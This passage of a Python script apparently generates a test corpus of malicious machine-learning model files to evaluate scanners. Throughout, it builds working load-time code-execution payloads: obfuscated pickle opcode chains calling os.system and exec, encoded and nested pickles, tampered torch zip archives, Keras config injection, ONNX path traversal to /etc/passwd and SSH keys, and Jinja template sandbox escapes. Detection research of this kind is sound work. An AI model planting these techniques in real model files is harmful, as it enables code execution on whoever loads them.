    cache = SG("copyreg", "_extension_cache") + b"J" + struct.pack("<i", code) + SG("builtins", "exec") + b"s0"
    return {"add": add, "inv": inv, "mod": mod, "cache": cache}[reg_] + op + sb(PY if reg_ == "cache" else CMD) + b"\x85R"


asm("ex-1", S, ext_(7, "add", b"\x82\x07"), model="before")
asm("ex-2", S, ext_(4242, "inv", b"\x83" + struct.pack("<H", 4242)), model="before")
asm("ex-4", S, ext_(70001, "mod", b"\x84" + struct.pack("<i", 70001)), head=b"\x80\x05", model="after")
asm("ex-c", S, ext_(9, "cache", b"\x82\x09"), model="after")

# ---- 12 persistent ids
S = "persid"
asm("pe-bin", S, EVIL_OS + b"Q", loader="persistent unpickler", model="before")
asm("pe-txt", S, b"Pruns/1\n0" + EVIL + b"Q", loader="persistent unpickler", head=b"\x80\x02")


@M("pe-torch", S, "torch.load weights_only=False", ".pt")
def _(p):
    import torch
    torch.save(net().state_dict(), p)
    _torchzip_edit(p, lambda b: b[:2] + sb("storage") + b"0" + EVIL_OS + b"0" + b[2:])


@M("pe-torch2", S, "torch.load weights_only=False", ".bin")
def _(p):
    # the location string of a storage's persistent id is computed by a call
    import torch
    torch.save({"w": torch.ones(3)}, p)
    _torchzip_edit(p, lambda b: b.replace(b"X\x03\x00\x00\x00cpu", G("operator", "getitem") + b"(" + b"]" + EVIL_OS + b"a" +
                                          b"0" * 0 + sb("cpu") + b"a" + b"K\x01" + b"tR", 1))


def _torchzip_edit(p, f, name=None):
    z = zipfile.ZipFile(p)
    items = [(i, z.read(i)) for i in z.infolist()]
    z.close()
    with zipfile.ZipFile(p, "w") as o:
        for i, b in items:
            o.writestr(zipfile.ZipInfo(i.filename), f(b) if i.filename.endswith("/data.pkl") else b)


# ---- 13 memo and stack tricks
S = "memo-stack"
asm("me-getnames", S, sb("os") + b"q\x01" + b"0" + sb("system") + b"q\x020" + b"h\x01h\x02\x93" + sb(CMD) + b"\x85R", model="before")
asm("me-overwrite", S, sb("math") + b"q\x000" + sb("os") + b"q\x000" + sb("log") + b"q\x010" + sb("system") + b"r\x01\x00\x00\x00" +
    b"0" + b"h\x00h\x01\x93" + sb(CMD) + b"\x85R", model="before")
asm("me-dup", S, sb("system") + b"2" + b"q\x070" + b"0" + sb("os") + b"2" + b"0" + b"h\x07\x93" + sb(CMD) + b"\x85R", model="after")
asm("me-big", S, SG("builtins", "exec") + b"r\xff\xff\x00\x00" + b"0" + sb(PY) + b"p77777\n0" + b"j\xff\xff\x00\x00" +
    b"g77777\n\x85R", model="before")
asm("me-popmark", S, SG("builtins", "exec") + b"(" + SG("math", "log") + sb("x") + b"K\x01" + b"1" + sb(PY) + b"\x85R", model="before")
asm("me-list", S, b"]q\x01" + sb("os") + b"a" + sb("system") + b"a0" + SG("operator", "getitem") + b"h\x01K\x00\x86R" +
    SG("operator", "getitem") + b"h\x01K\x01\x86R\x93" + sb(CMD) + b"\x85R", model="after")
asm("me-concat", S, SG("operator", "add") + sb("o") + sb("s") + b"\x86R" + SG("builtins", "str.join") + sb("") + B(["sys", "tem"]) +
    b"\x86R\x93" + sb(CMD) + b"\x85R", model="before")
asm("me-memoize", S, sb("posix") + b"\x94" + sb("system") + b"\x94" + b"q\x05" + b"00" + b"h\x00h\x05\x93" + b"\x94" + sb(CMD) +
    b"\x94\x85R", model="before")
asm("me-str", S, SG("builtins", "str.lower") + sb("OS") + b"\x85R" + SG("builtins", "str.replace") + sb("s-y-s-t-e-m") + sb("-") +
    sb("") + b"\x87R\x93" + sb(CMD) + b"\x85R", model="before")

# ---- 14 several pickles in one stream
S = "multi-stream"
M("mu-second", S, "pickle.load until EOF")(lambda p: w(p, pickle.dumps(lr(), 4) + pickle.dumps(R(os.system, CMD), 4)))
M("mu-third", S, "pickle.load until EOF")(lambda p: w(p, pickle.dumps({"v": 1}, 0) + pickle.dumps([1, 2], 5) + pickle.dumps(
    {"cb": R(exec, PY)}, 2)))


@M("mu-legacysys", S, "torch.load weights_only=False", ".pt")
def _(p):
    import torch
    torch.save(net().state_dict(), p, _use_new_zipfile_serialization=False)
    f = open(p, "rb")
    a, b = pickle.load(f), pickle.load(f)
    pos = f.tell()
    pickle.load(f)
    rest = f.read()
    f.seek(0)
    head = f.read(pos)
    w(p, head + pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": R(subprocess.getoutput, CMD)}, 2) + rest)


@M("mu-legacykeys", S, "torch.load weights_only=False", ".bin")
def _(p):
    import torch
    torch.save({"w": torch.ones(2)}, p, _use_new_zipfile_serialization=False)
    f = open(p, "rb")
    for _ in range(4):
        b = io.BytesIO()

        class U(pickle.Unpickler):
            def persistent_load(self, x):
                return torch.storage.TypedStorage(
                    wrap_storage=torch.UntypedStorage(x[4] * 4), dtype=torch.float32)
        U(f).load()
    pos = f.tell()
    keys = pickle.load(f)
    rest = f.read()
    f.seek(0)
    head = f.read(pos)
    w(p, head + pickle.dumps([R(exec, PY)], 2)[:-1] + b"0" + pickle.dumps(keys, 2)[2:] + rest)


M("mu-pad", S, "pickle.load until EOF", ".dat")(lambda p: w(p, pickle.dumps(rf(), 2) + pickle.dumps(b"\0" * 5000, 4) + pickle.dumps(
    R(subprocess.call, ARGV), 4)))
M("mu-p0", S, "pickle.load until EOF")(lambda p: w(p, b"I1\n.(lp0\n." + b"cposix\nsystem\n(S'touch hE_mark'\ntR."))

# ---- 15 the payload runs, then the stream breaks
S = "broken-tail"
asm("br-nostop", S, EVIL_OS, tail=b"", model=None)
asm("br-op", S, EVIL + b"\xfe\xff", tail=b"")
asm("br-stack", S, EVIL + b"000000", tail=b".")
asm("br-trunc", S, EVIL_OS + b"X\xff\xff\xff\x7fabc", tail=b"")
asm("br-badglobal", S, EVIL + G("no_such_module_x", "y"), tail=b".")
asm("br-utf8", S, EVIL_OS + b"\x8c\x02\xff\xfe", tail=b".")
asm("br-memo", S, EVIL + b"h\xee", tail=b".")


@M("br-cut", S, "pickle.load", ".pkl")
def _(p):
    # FRAME reads ahead, so the cut version is written without frames
    b = pickle.dumps([R(exec, PY), rf(8)], 3)
    w(p, b[:len(b) * 2 // 3])


@M("br-joblib", S, "joblib.load", ".joblib")
def _(p):
    import joblib, numpy as np
    joblib.dump([R(exec, PY), np.ones(5000)], p)
    b = open(p, "rb").read()
    w(p, b[:-9000])


@M("br-torch", S, "torch.load weights_only=False", ".pt")
def _(p):
    import torch
    torch.save([R(os.system, CMD), torch.ones(3)], p, _use_new_zipfile_serialization=False)
    w(p, open(p, "rb").read()[:-5])


# ---- 16 protocol oddities
S = "protocol-odd"
asm("pr-multi", S, b"\x80\x02\x80\x05\x80\x00" + EVIL_OS, head=b"\x80\x04", model="before")
asm("pr-none", S, EVIL_OS, head=b"", model=None)
asm("pr-frame2", S, b"\x95" + struct.pack("<Q", len(EVIL)) + EVIL, head=b"\x80\x02", model="after")
asm("pr-frame0", S, b"\x95" + struct.pack("<Q", 0) + EVIL_OS, model="before")
asm("pr-vuni", S, b"V\\u006f\\u0073\n" + b"Vsy\\u0073tem\n\x93" + sb(CMD) + b"\x85R", model="before")
asm("pr-str", S, b"S'\\x6f\\x73'\n" + b'S"\\163ystem"\n\x93' + b"U\x0d" + CMD.encode() + b"\x85R", head=b"\x80\x04", model="after")
asm("pr-fiximp", S, G("__builtin__", "eval") + sb("open('hE_mark','w')") + b"\x85R", head=b"\x80\x02", model="before")
asm("pr-fiximp2", S, G("commands", "getoutput") + b"U\x0d" + CMD.encode() + b"\x85R", head=b"")
asm("pr-ba8", S, SG("builtins", "exec") + SG("builtins", "bytes") + b"\x96" + struct.pack("<Q", len(PY)) + PY.encode() + b"\x85R\x85R",
    head=b"\x80\x05", model="before")
asm("pr-bu8", S, b"\x8d" + struct.pack("<Q", 8) + b"builtins" + b"\x8d" + struct.pack("<Q", 4) + b"exec\x93" + sb(PY) + b"\x85R",
    model="after")
asm("pr-mid", S, b"(" + sb("a") + b"K\x01d0" + b"\x8a\x01\x050\x80\x04" + b"\x88\x89\x860" + EVIL, model="before")

# ---- 17 nested pickles: bytes that a called function loads
S = "nested-pickle"
INNER = pickle.dumps(R(exec, PY), 4)


def nest(name, mk, loader="pickle.load", env="M", ext=".pkl"):
    M(name, "nested-pickle", loader, ext, env)(lambda p: w(p, pickle.dumps({"model": lr(), "w": mk()}, 4)))


nest("ne-loads", lambda: R(pickle.loads, INNER))
nest("ne-b64", lambda: R(pickle.loads, R(base64.b64decode, base64.b64encode(INNER))))
nest("ne-zlib", lambda: R(I("_pickle:loads"), R(zlib.decompress, zlib.compress(INNER))))
nest("ne-joblib", lambda: R(I("joblib:load"), R(io.BytesIO, INNER)))
nest("ne-nploads", lambda: R(I("numpy:load"), R(io.BytesIO, _npobj()), None, True))
nest("ne-dill", lambda: R(I("dill:loads"), INNER))
nest("ne-dillload", lambda: R(I("dill:load"), R(io.BytesIO, INNER)))
nest("ne-lib2to3", lambda: R(I("lib2to3.pgen2.grammar:Grammar.loads"), R(I("lib2to3.pgen2.grammar:Grammar")), pickle.dumps(
    {"a": R(exec, PY)})))
nest("ne-torchload", lambda: R(functools.partial(
    I("torch:load"), weights_only=False), R(io.BytesIO, _torchb())))
nest("ne-xdr", lambda: R(I("pickle:Unpickler.load"), R(pickle.Unpickler, R(io.BytesIO, INNER))))
nest("ne-readpickle", lambda: R(I("pandas:read_pickle"), R(io.BytesIO, INNER), None))


def _npobj():
    import numpy as np
    b = io.BytesIO()
    np.save(b, np.array([R(exec, PY)], dtype=object))
    return b.getvalue()


def _torchb():
    import torch
    b = io.BytesIO()
    torch.save(R(exec, PY), b)
    return b.getvalue()


# ---- 18 encoded code
S = "encoded-code"
SRC = "import os\nos.system('touch hE_mark')\n"


def enc(name, mk):
    M(name, "encoded-code", "joblib.load", ".joblib")(lambda p: I("joblib:dump")({"model": rf(), "extra": mk()}, p,
                                                                              compress=len(name) % 2 * 3))


enc("en-b64", lambda: R(exec, R(base64.b64decode, base64.b64encode(SRC.encode()))))
enc("en-rot", lambda: R(exec, R(codecs.decode, codecs.encode(SRC, "rot13"), "rot13")))
enc("en-zlib", lambda: R(exec, R(zlib.decompress, zlib.compress(SRC.encode()))))
enc("en-hex", lambda: R(exec, R(bytes.fromhex, SRC.encode().hex())))
enc("en-marshal", lambda: R(exec, R(marshal.loads, marshal.dumps(compile(SRC, "m", "exec")))))
enc("en-marshalfn", lambda: R(R(R(getattr, R(I("importlib:import_module"), "types"), "FunctionType"), R(marshal.loads, marshal.dumps(compile(PY, "m", "exec"))), {"__builtins__": {"open": open}})))
enc("en-compile", lambda: R(eval, R(compile, SRC, "m", "exec")))
enc("en-lzma", lambda: R(exec, R(I("lzma:decompress"), lzma.compress(SRC.encode()))))
enc("en-fmt", lambda: R(exec, R(str.format, "{0}('hE_mark','w').close()", "open")))

# ---- 19 joblib containers
S = "joblib-container"


def jl(name, mk, ext=".joblib", **k):
    M(name, "joblib-container", "joblib.load", ext)(lambda p: I("joblib:dump")(mk(), p, **k))


jl("jo-raw", lambda: {"W": I("numpy:ones")((50, 4)), "cb": R(os.system, CMD), "b": I("numpy:zeros")(9)})
jl("jo-zlib", lambda: [rf(), R(exec, PY)], compress=3)
jl("jo-gz", lambda: {"m": lr(), "x": R(subprocess.getoutput, CMD)}, ".gz", compress=("gzip", 3))
jl("jo-bz2", lambda: [R(exec, PY), rf()], ".bz2", compress=("bz2", 9))
jl("jo-xz", lambda: {"m": rf(), "x": R(os.popen, CMD)}, ".xz", compress=("xz", 2))
jl("jo-lzma", lambda: (lr(), R(exec, PY)), ".lzma", compress=("lzma", 2))
jl("jo-lz4", lambda: (lr(), R(exec, PY)), ".lz4", compress=("lz4", 2))
jl("jo-objarr", lambda: {"labels": _objarr(["a", None, R(exec, PY)]), "m": lr()})
jl("jo-objarrz", lambda: [_objarr([[R(os.system, CMD)], 2]), rf()], compress=("zlib", 9))
jl("jo-after", lambda: [I("numpy:arange")(2000), R(exec, PY), I("numpy:arange")(2000)])


def _objarr(l):
    import numpy as np
    a = np.empty(len(l), dtype=object)
    for i, x in enumerate(l):
        a[i] = x
    return a


@M("jo-wrapper", S, "joblib.load", ".joblib")
def _(p):
    # NumpyArrayWrapper.subclass is called with the array when it is no ndarray: put a callable there
    import joblib, numpy as np
    from joblib.numpy_pickle import NumpyArrayWrapper
    b = io.BytesIO()
    pk = joblib.numpy_pickle.NumpyPickler(b, protocol=4)
    pk.dump(1)
    wr = NumpyArrayWrapper(np.ndarray, (1,), "C", np.dtype("O"), False)
    body = pickle.dumps(wr, 3)[2:-1] + b"0" * 0
    # after BUILD of the wrapper joblib reads the array: here an object array, a nested pickle
    w(p, b"\x80\x03" + body + pickle.dumps(_objarr([R(exec, PY)]), 4) + b".")


@M("jo-old", S, "joblib.load", ".pkl")
def _(p):
    # the format of joblib < 0.10: ZNDArrayWrapper names a file beside it; loaded through load_compatibility
    import joblib
    from joblib.numpy_pickle_compat import ZNDArrayWrapper
    import numpy as np
    inner = pickle.dumps({"m": 1, "x": R(exec, PY)}, 2)
    raw = zlib.compress(inner, 3)
    head = b"ZF" + hex(len(inner)).encode().ljust(19)
    w(p, head + raw)


# ---- 20 numpy
S = "numpy-object"


def npf(name, mk, ext=".npy", loader="np.load allow_pickle", env="M"):
    M(name, "numpy-object", loader, ext, env)(lambda p: w(p, mk()))


def _nps(kind, **k):
    import numpy as np
    b = io.BytesIO()
    {"s": np.save, "z": np.savez, "c": np.savez_compressed}[kind](b, **k) if kind != "s" else np.save(b, k["a"])
    return b.getvalue()


npf("np-first", lambda: _nps("s", a=_objarr([R(exec, PY)])))
npf("np-deep", lambda: _nps("s", a=_objarr([{"a": [1, {"b": R(os.system, CMD)}]}, "x"])))
npf("np-z", lambda: _nps("z", W=I("numpy:ones")(4), meta=_objarr([R(exec, PY)])), ".npz")
npf("np-zc", lambda: _nps("c", W=I("numpy:ones")((40, 40)), vocab=_objarr(["a", R(subprocess.call, ARGV)])), ".npz")
npf("np-plain", lambda: pickle.dumps({"W": I("numpy:ones")(4), "x": R(exec, PY)}, 4))
npf("np-0d", lambda: _nps("s", a=I("numpy:array")({"cfg": R(exec, PY)}, dtype=object)), env="O")
npf("np-plainz", lambda: _zip({"W.npy": _nps("s", a=I("numpy:ones")(3)), "b.npy": _nps("s", a=_objarr([R(exec, PY)]))}, zipfile.ZIP_DEFLATED),
    ".bin")
npf("np-rec", lambda: _nps("s", a=I("numpy:array")([(1, R(os.system, CMD))], dtype=[("i", "i4"), ("o", "O")])))


def _zip(items, comp=zipfile.ZIP_STORED):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", comp) as z:
        for k, v in (items.items() if isinstance(items, dict) else items):
            z.writestr(k, v)
    return b.getvalue()


# ---- 21 torch zip
S = "torch-zip"


def tz(name, make, ext=".pt", loader="torch.load weights_only=False"):
    M(name, "torch-zip", loader, ext)(make)


def _tsave(p, o=None):
    import torch
    torch.save(o if o is not None else net().state_dict(), p)


def _rezip(p, f, comp=zipfile.ZIP_STORED):
    z = zipfile.ZipFile(p)
    items = [(i.filename, z.read(i)) for i in z.infolist()]
    z.close()
    w(p, _zip(f(items), comp))


tz("tz-plain", lambda p: _tsave(p, {"state_dict": net().state_dict(), "x": R(os.system, CMD)}), ".bin")
tz("tz-model", lambda p: _tsave(p, [net(), R(exec, PY)]), ".pth")


@M("tz-dup", S, "torch.load weights_only=False", ".pt")
def _(p):
    _tsave(p)
    bad = b"\x80\x02" + EVIL_OS + b"0"
    _rezip(p, lambda it: [x for n, b in it for x in ([(n, bad + b[2:]), (n, b)] if n.endswith("data.pkl") else [(n, b)])])


@M("tz-case", S, "torch.load weights_only=False", ".pt")
def _(p):
    _tsave(p)
    _rezip(p, lambda it: [(n.replace("data.pkl", "DATA.PKL"), b"\x80\x02" + EVIL + b"0" + b[2:] if n.endswith("data.pkl") else b)
                          for n, b in it])


@M("tz-dirname", S, "torch.load weights_only=False", ".pt")
def _(p):
    _tsave(p)
    _rezip(p, lambda it: [("weights.d/" + n.split("/", 1)[1], b"\x80\x02" + EVIL + b"0" + b[2:] if n.endswith("data.pkl") else b)
                          for n, b in it])


@M("tz-crc", S, "torch.load weights_only=False", ".pt")
def _(p):
    _tsave(p, {"w": net().state_dict(), "x": R(exec, PY)})
    b = bytearray(open(p, "rb").read())
    i = b.rfind(b"PK\x01\x02", 0, b.rfind(b"data.pkl"))
    j = b.find(b"PK\x03\x04")
    b[j + 14:j + 18] = b"\0\1\2\3"          # the CRC of the local header of data.pkl
    w(p, bytes(b))


@M("tz-local", S, "torch.load weights_only=False", ".pt")
def _(p):
    _tsave(p, {"w": net().state_dict(), "x": R(exec, PY)})
    b = bytearray(open(p, "rb").read())
    j = b.find(b"PK\x03\x04")
    n = struct.unpack("<H", b[j + 26:j + 28])[0]
    b[j + 30:j + 30 + n] = b"a" * (n - 5) + b"x.txt"    # another name in the local header
    w(p, bytes(b))


@M("tz-flag", S, "torch.load weights_only=False", ".pt")
def _(p):
    _tsave(p, {"w": net().state_dict(), "x": R(os.system, CMD)})
    b = bytearray(open(p, "rb").read())
    j = b.find(b"PK\x03\x04")
    b[j + 6] |= 1                           # "encrypted" in the local header only
    w(p, bytes(b))


@M("tz-prefix", S, "torch.load weights_only=False", ".pt")
def _(p):
    _tsave(p)
    _rezip(p, lambda it: [(n, b"\x80\x02" + EVIL + b"0" + b[2:] if n.endswith("data.pkl") else b) for n, b in it], zipfile.ZIP_DEFLATED)


# ---- 22 legacy torch and tar
S = "torch-legacy-tar"


@M("tl-legacy", S, "torch.load weights_only=False", ".pt")
def _(p):
    import torch
    torch.save({"m": net().state_dict(), "x": R(exec, PY)}, p, _use_new_zipfile_serialization=False)


@M("tl-magic", S, "torch.load weights_only=False", ".bin")
def _(p):
    # a stream that never was torch's: executed while looking for the magic number
    w(p, pickle.dumps(R(os.system, CMD), 2))


def _ttar(p, member, body):
    import torch
    items = {"sys_info": pickle.dumps({"protocol_version": 1000, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2),
             "pickle": pickle.dumps({"w": 1}, 2), "storages": pickle.dumps(0, 2) + pickle.dumps([], 2), "tensors": pickle.dumps(0, 2)}
    items[member] = body
    _tar(p, "w", items, format=tarfile.PAX_FORMAT)


M("tl-tarpickle", S, "torch.load weights_only=False", ".pt")(lambda p: _ttar(p, "pickle", pickle.dumps({"x": R(exec, PY)}, 2)))
M("tl-tarstor", S, "torch.load weights_only=False", ".pt")(lambda p: _ttar(p, "storages", pickle.dumps(R(len, R(subprocess.getoutput, CMD)), 2) + pickle.dumps([], 2)))
M("tl-tartens", S, "torch.load weights_only=False", ".tar")(lambda p: _ttar(p, "tensors", b"\x80\x02" + EVIL_OS + b"."))


@M("tl-legacy4", S, "torch.load weights_only=False", ".ckpt")
def _(p):
    import torch
    torch.save([net(), R(R(functools.partial, subprocess.call, ARGV))], p, _use_new_zipfile_serialization=False, pickle_protocol=4)


# ---- 23 torch.package and TorchScript
S = "torch-package-script"


def _pkg(p, src, body):
    from torch.package import PackageExporter
    with PackageExporter(p) as e:
        if src:
            e.save_source_string("churn_model", src)
        e.save_binary("model", "model.pkl", body)


M("tp-source", S, "torch.package", ".pt")(lambda p: _pkg(p, "import os\nos.system('touch hE_mark')\nclass Net:\n    pass\n",
                                                        b"\x80\x02cchurn_model\nNet\n)\x81."))
M("tp-pickle", S, "torch.package", ".pt")(lambda p: _pkg(
    p, "def build(x):\n    open('hE_mark', 'w').close()\n    return x\n", b"\x80\x02cchurn_model\nbuild\nK\x01\x85R."))


@M("tp-setstate", S, "torch.package", ".pt")
def _(p):
    _pkg(p, "import subprocess\nclass Net:\n    def __setstate__(self, s):\n        subprocess.run(['touch', s])\n",
         b"\x80\x02cchurn_model\nNet\n)\x81" + sb("hE_mark") + b"b.")


def _script(p, kind):
    import torch
    from typing import Tuple
    src = {"file": "        self.w = s[0] + torch.from_file('hE_mark', True, 4)\n", "save": "        torch.save(s[0], 'hE_mark')\n"}.get(kind, "")
    code = ("import torch\nfrom typing import Tuple\nclass Net(torch.nn.Module):\n    def __init__(self):\n        super().__init__()\n"
            "        self.w = torch.ones(4)\n    def forward(self, x: torch.Tensor) -> torch.Tensor:\n"
            + ("        torch.save(x, 'hE_mark')\n" if kind == "fsave" else "        x = x + torch.from_file('hE_mark', True, 4)\n"
               if kind == "ffile" else "") + "        return x * self.w\n")
    if src:
        code += ("    @torch.jit.export\n    def __getstate__(self) -> Tuple[torch.Tensor, bool]:\n        return (self.w, self.training)\n"
                 "    @torch.jit.export\n    def __setstate__(self, s: Tuple[torch.Tensor, bool]) -> None:\n        self.w = s[0]\n"
                 "        self.training = s[1]\n" + src)
    w(f"netmod_{kind}.py", code.encode())
    sys.path.insert(0, os.getcwd())
    __import__("importlib").invalidate_caches()
    torch.jit.save(torch.jit.script(__import__(f"netmod_{kind}").Net()), p)


M("ts-file", S, "torch.jit.load", ".pt", source="TorchScript __setstate__ runs at load; aten::from_file(shared) creates a file")(
    lambda p: _script(p, "file"))
M("ts-save", S, "torch.jit.load", ".pt", source="TorchScript __setstate__ runs at load; aten::save writes a file")(
    lambda p: _script(p, "save"))
M("ts-fsave", S, "torch.jit.load+call", ".pt", source="runs when forward is called")(lambda p: _script(p, "fsave"))
M("ts-ffile", S, "torch.jit.load+call", ".ptl", source="runs when forward is called")(lambda p: _script(p, "ffile"))

# ---- 24 Keras
S = "keras-code"


def _srcfn(src):
    """the function as a module of its own would have it: writers may ask for its source"""
    n = "kf_" + hashlib.sha1(src.encode()).hexdigest()[:8]
    w(n + ".py", f"f = {src}\n".encode())
    sys.path.insert(0, os.getcwd())
    import importlib
    importlib.invalidate_caches()
    return __import__(n).f


def _klam(p, src, how="lambda", env="torch", shape=False):
    os.environ["KERAS_BACKEND"] = env
    import keras
    f = _srcfn(src)
    L = keras.layers
    i = keras.Input((4,))
    x = L.Dense(3)(i)
    if how == "lambda":
        x = L.Lambda(f, **({"output_shape": (3,)} if shape else {}))(x)
    m = keras.Model(i, x)
    if how == "loss":
        m.compile("sgd", loss=f)
    m.save(p)


LAM = "lambda x: (open('hE_mark', 'w').close(), x)[1]"
LAM2 = "lambda x: (__import__('os').system('touch hE_mark'), x)[1]"
M("ke-lambda", S, "keras.load_model safe_mode=False", ".keras")(lambda p: _klam(p, LAM))
M("ke-lambda2", S, "keras.load_model+predict", ".keras", source="runs when the model is called")(lambda p: _klam(p, LAM2, shape=True))
M("ke-h5", S, "keras.load_model safe_mode=False", ".h5")(lambda p: _klam(p, LAM2))
M("ke-36", S, "keras.load_model safe_mode=False", ".keras", "K")(lambda p: _klam(p, LAM, env="numpy"))


def _kmod(p, layer, inbound):
    """Keras < 3.9 took module and class_name of a layer at their word and called the object with the inbound arguments"""
    os.environ["KERAS_BACKEND"] = "numpy"
    import keras
    i = keras.Input((4,))
    keras.Model(i, keras.layers.Dense(3, name="head")(i)).save(p)
    z = zipfile.ZipFile(p)
    it = {n: z.read(n) for n in z.namelist()}
    z.close()
    c = json.loads(it["config.json"])
    c["config"]["layers"].append(dict(layer, name="aux", inbound_nodes=inbound))
    it["config.json"] = json.dumps(c).encode()
    w(p, _zip(it))


M("ke-modref", S, "keras.load_model safe_mode=False", ".keras", "K", source="CVE-2025-1550 shape")(lambda p: _kmod(
    p, {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"},
    [{"args": [CMD], "kwargs": {}}]))
M("ke-modref2", S, "keras.load_model safe_mode=False", ".keras", "K", source="CVE-2025-1550 shape")(lambda p: _kmod(
    p, {"module": "subprocess", "class_name": "function", "config": "check_output", "registered_name": "check_output"},
    [{"args": [ARGV], "kwargs": {}}]))
M("ke-modcls", S, "keras.load_model safe_mode=False", ".keras", "K", source="CVE-2025-1550 shape, builtins")(lambda p: _kmod(
    p, {"module": "builtins", "class_name": "function", "config": "exec", "registered_name": None},
    [{"args": [PY], "kwargs": {}}]))


def _tflam(p, src, **k):
    import tensorflow as tf
    f = _srcfn(src)
    m = tf.keras.Sequential([tf.keras.layers.Input((4,)), tf.keras.layers.Dense(3), tf.keras.layers.Lambda(f)])
    m.save(p, **k)


M("kt-h5", S, "tf.keras.load_model", ".h5", "F")(lambda p: _tflam(p, LAM))
M("kt-keras", S, "tf.keras.load_model safe_mode=False", ".keras", "F")(lambda p: _tflam(p, LAM2))


@M("ke-loss", S, "keras.load_model safe_mode=False", ".keras", proof="rule",
   rule="Python bytecode (marshal) stored as the compiled loss: deserialised at load, called only by fit/evaluate")
def _(p):
    _klam(p, "lambda a, b: (open('hE_mark', 'w').close(), (a - b) ** 2)[1]", "loss")


# ---- 25 SavedModel
S = "savedmodel-ops"


def _sm(p, body, init=True):
    import tensorflow as tf
    from tensorflow.python.trackable.resource import CapturableResource, TrackableResource

    class Res(TrackableResource):
        def _create_resource(self):
            return tf.raw_ops.VarHandleOp(
                dtype=tf.float32, shape=[], shared_name="r1")

        def _initialize(self):
            body(tf)
            return 1

        @tf.function(input_signature=[])
        def ini(self):
            body(tf)

    class Mo(tf.Module):
        def __init__(self):
            super().__init__()
            if init:
                self.res = Res()
                self.res.resource_handle

        @tf.function(input_signature=[tf.TensorSpec([None], tf.float32)])
        def __call__(self, x):
            if not init:
                body(tf)
            return {"y": x * 2.0}
    m = Mo()
    tf.saved_model.save(m, os.path.dirname(p), signatures={"serving_default": m.__call__})


M("sm-init", S, "tf.saved_model.load", "/saved_model.pb", "F")(lambda p: _sm(p, lambda tf: tf.io.write_file("hE_mark", "x")))
M("sm-initcopy", S, "tf.saved_model.load", "/saved_model.pb", "F")(lambda p: _sm(p, lambda tf: tf.io.write_file(
    "hE_mark", tf.io.read_file("/etc/hostname"))))
M("sm-initprint", S, "tf.saved_model.load", "/saved_model.pb", "F")(lambda p: _sm(p, lambda tf: tf.print(
    "x", output_stream="file://hE_mark")))
M("sm-serve", S, "tf.saved_model.load+call", "/saved_model.pb", "F", source="runs when the signature is called")(lambda p: _sm(
    p, lambda tf: tf.io.write_file("hE_mark", "x"), False))
M("sm-lambda", S, "tf.keras.load_model dir", "/saved_model.pb", "F")(lambda p: _tflam(os.path.dirname(p), LAM, save_format="tf"))


@M("sm-pyfunc", S, "tf.saved_model.load+call", "/saved_model.pb", "F", proof="rule",
   rule="EagerPyFunc in the graph: host Python by token; another process has no such token, so the call fails there")
def _(p):
    _sm(p, lambda tf: tf.py_function(lambda: os.system(CMD), [], tf.int32), False)


# ---- 26 ONNX external data
S = "onnx-external"
RULE = "ONNX ExternalData.md: location is a path relative to the model's folder and must stay inside it"


def _onnxext(p, loc, where="init", off=None):
    import onnx
    from onnx import helper as h, TensorProto as T
    m = _onnx_mlp()
    t = m.graph.initializer[0]
    t.ClearField("raw_data")
    t.data_location = T.EXTERNAL
    for k, v in (("location", loc), ("offset", off), ("length", "32")):
        if v is not None:
            e = t.external_data.add()
            e.key, e.value = k, v
    if where == "const":
        m.graph.node.insert(0, h.make_node("Constant", [], ["W"], value=t))
        del m.graph.initializer[:]
    if where == "func":
        f = h.make_function("local", "F", [], ["W"], [h.make_node("Constant", [], ["W"], value=t)], [h.make_opsetid("", 17)])
        m.functions.append(f)
        m.opset_import.append(h.make_opsetid("local", 1))
        m.graph.node.insert(0, h.make_node("F", [], ["W"], domain="local"))
        del m.graph.initializer[:]
    w(p, m.SerializeToString())


for nm, loc, wh, off in (("on-dotdot", "../../../../../../etc/passwd", "init", None), ("on-abs", "/etc/passwd", "init", "0"),
                         ("on-const", "../../secrets/key.pem", "const", None), ("on-func", "../../../home/user/.ssh/id_rsa", "func", "0"),
                         ("on-mixed", "weights/../../../../etc/shadow", "init", "16")):
    M(nm, S, "onnx.load", ".onnx", proof="rule+reject", rule=RULE)(lambda p, l=loc, h_=wh, o=off: _onnxext(p, l, h_, o))

# ---- 27 templates
S = "template-escape"
SSTI = {
    "gg-cycler": ("gguf", "{{ cycler.__init__.__globals__.os.system('touch hE_mark') }}"),
    "gg-lipsum": ("gguf", "{{ lipsum.__globals__['os'].popen('touch hE_mark').read() }}"),
    "gg-self": ("gguf", "{{ self.__init__.__globals__.__builtins__.open('hE_mark', 'w').close() }}"),
    "gg-hex": ("gguf", r"{{ (joiner|attr('\x5f\x5finit\x5f\x5f')|attr('\x5f\x5fglobals\x5f\x5f'))['os']|attr('system')('touch hE_mark') }}"),
    "tk-subc": ("cfg", "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c()._module."
                       "__builtins__['open']('hE_mark', 'w').close() }}{% endif %}{% endfor %}"),
    "tk-concat": ("cfg", "{% set g = namespace['__in' ~ 'it__']['__glo' ~ 'bals__'] %}{{ g['o' ~ 's']['sys' ~ 'tem']('touch hE_mark') }}"),
    "tk-fmt": ("list", "{% set u = '%c%c' | format(95, 95) %}{{ (cycler | attr(u ~ 'init' ~ u) | attr(u ~ 'globals' ~ u))['os'].system("
                       "'touch hE_mark') }}"),
    "tk-map": ("jinja", "{% set x = [lipsum] | map(attribute='__globals__') | list %}{{ x[0].os.popen('touch hE_mark').read() }}"),
    "tk-macro": ("jinja", "{%- macro m() %}{% endmacro -%}{{ raise_exception.__globals__['os'].system('touch hE_mark') }}"),
}


def _tpl(p, where, bad):
    t = CHATML + bad
    if where == "gguf":
        return _ggufw(p, t)
    if where == "jinja":
        return w(p, t.encode())
    json.dump({"tokenizer_class": "LlamaTokenizer", "bos_token": "<s>", "chat_template": t if where == "cfg" else [
        {"name": "default", "template": LLAMA}, {"name": "tool_use", "template": t}]}, open(p, "w"), indent=1)


for nm, (wh, bad) in SSTI.items():
    M(nm, S, "gguf chat template" if wh == "gguf" else "tokenizer chat template", {"gguf": ".gguf", "jinja": "/chat_template.jinja"}.get(
